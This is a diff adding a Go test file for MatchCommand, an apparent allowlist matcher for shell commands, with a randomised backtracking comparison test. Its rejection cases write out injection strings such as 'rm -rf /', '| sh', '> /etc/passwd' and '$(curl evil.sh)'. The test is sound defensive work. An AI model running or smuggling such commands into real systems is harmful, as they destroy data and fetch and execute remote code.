@@ -0,0 +1,92 @@
+package ssh
+
+import (
+	"math/rand"
+	"testing"
+)
+
+func TestMatchCommand(t *testing.T) {
+	tests := []struct {
+		pattern string
+		command string
+		want    bool
+	}{
+		{"sudo apt-get install -y *", "sudo apt-get install -y nginx", true},
+		{"sudo apt-get install -y *", "sudo apt-get install -y nginx curl", true},
+		{"sudo apt-get install -y *", "sudo apt-get remove -y nginx", false},
+		{"rm -rf /tmp/settle-?", "rm -rf /tmp/settle-1", true},
+
+		// Wildcards stop at shell operators and substitutions
+		{"sudo apt-get install -y *", "sudo apt-get install -y nginx; rm -rf /", false},
+		{"sudo apt-get install -y *", "sudo apt-get install -y nginx && rm -rf /", false},
+		{"sudo apt-get install -y *", "sudo apt-get install -y nginx || rm -rf /", false},
+		{"sudo apt-get install -y *", "sudo apt-get install -y nginx | sh", false},
+		{"sudo apt-get install -y *", "sudo apt-get install -y nginx > /etc/passwd", false},
+		{"sudo apt-get install -y *", "sudo apt-get install -y nginx\nrm -rf /", false},
+		{"sudo apt-get install -y *", "sudo apt-get install -y $(curl evil.sh)", false},
+		{"sudo apt-get install -y *", "sudo apt-get install -y `curl evil.sh`", false},
+		{"sudo apt-get install -y *", "sudo apt-get install -y \"$(curl evil.sh)\"", false},
+		{"sudo apt-get install -y ?", "sudo apt-get install -y ;", false},
+
+		// Unless the pattern spells them out
+		{"chmod * && mv -f *", "chmod 0644 /tmp/a && mv -f /tmp/a /etc/motd", true},
+		{"chmod * && mv -f *", "chmod 0644 /tmp/a && mv -f /tmp/a /etc/motd; reboot", false},
+		{"dpkg -l | grep -w *", "dpkg -l | grep -w nginx", true},
+		{"date +%s; stat -c %Y /var/lib/apt/lists 2>/dev/null || true", "date +%s; stat -c %Y /var/lib/apt/lists 2>/dev/null || true", true},
+
+		// Quoted and escaped characters are not operators
+		{"echo *", "echo 'a;b|c && $(d)'", true},
+		{"echo *", "echo \"a;b|c\"", true},
+		{"echo *", "echo a\\;b", true},
+		{"dpkg-query -W -f=* nginx", "dpkg-query -W -f='${Status} ${Version}' nginx", true},
+		{"echo *", "echo 'a' ; reboot", false},
+	}
+
+	for _, tt := range tests {
+		if got := MatchCommand(tt.pattern, tt.command); got != tt.want {
+			t.Errorf("MatchCommand(%q, %q) = %v, want %v", tt.pattern, tt.command, got, tt.want)
+		}
+	}
+}
+
+// TestMatchCommandBacktracking compares MatchCommand with a recursive
+// matcher on random patterns and commands
+func TestMatchCommandBacktracking(t *testing.T) {
+	var match func(pattern, command string, special []bool) bool
+	match = func(pattern, command string, special []bool) bool {
+		if pattern == "" {
+			return command == ""
+		}
+		switch {
+		case pattern[0] == '*':
+			if match(pattern[1:], command, special) {
+				return true
+			}
+			return command != "" && !special[0] && match(pattern, command[1:], special[1:])
+		case command == "":
+			return false
+		case pattern[0] == command[0]:
+			return match(pattern[1:], command[1:], special[1:])
+		case pattern[0] == '?':
+			return !special[0] && match(pattern[1:], command[1:], special[1:])
+		}
+		return false
+	}
+
+	r := rand.New(rand.NewSource(1))
+	random := func(alphabet string, n int) string {
+		b := make([]byte, r.Intn(n))
+		for i := range b {
+			b[i] = alphabet[r.Intn(len(alphabet))]
+		}
+		return string(b)
+	}
+	for i := 0; i < 20000; i++ {
+		pattern := random("ab;&*?", 8)
+		command := random("ab;&", 10)
+		want := match(pattern, command, shellSpecial(command))
+		if got := MatchCommand(pattern, command); got != want {
+			t.Fatalf("MatchCommand(%q, %q) = %v, want %v", pattern, command, got, want)
+		}
+	}
+}